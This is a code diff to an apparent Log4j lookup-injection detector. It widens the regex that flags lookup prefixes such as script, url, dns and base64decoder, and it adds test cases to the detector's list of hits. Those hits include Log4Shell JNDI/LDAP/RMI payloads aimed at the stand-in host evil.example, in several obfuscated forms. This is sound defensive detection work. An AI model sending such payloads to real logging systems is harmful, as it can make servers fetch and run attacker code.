@@ -31,7 +31,11 @@ export const log4jLookup = defineAttack({
       }
       const next = plain.replace(innermost, (_whole, body: string) => lookedUp(body));
       if (next === plain) break;
-      if (/\$\{(?:env|sys|java|main|docker|k8s|spring|kubernetes|bundle|ctx|log4j):[\w.]/i.test(plain))
+      if (
+        /\$\{(?:env|sys|java|main|docker|k8s|spring|kubernetes|bundle|ctx|log4j|script|url|dns|const|base64decoder|urldecoder|file:utf-8|xml):[\w.]/i.test(
+          plain,
+        )
+      )
         note('environment', at, text.length);
       isNested = true;
       plain = next;
@@ -43,6 +47,8 @@ export const log4jLookup = defineAttack({
       '${jndi:ldap://evil.example/a}',
       '${${lower:j}ndi:${lower:l}dap://evil.example/a}',
       '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}',
+      '${script:javascript:x}',
+      '${dns:address|evil.example}',
       '${${env:NaN:-j}ndi${env:NaN:-:}ldap://evil.example}',
     ],
     misses: ['${name}', '${user.home}', 'costs $5 {net}', '${lower:A}'],
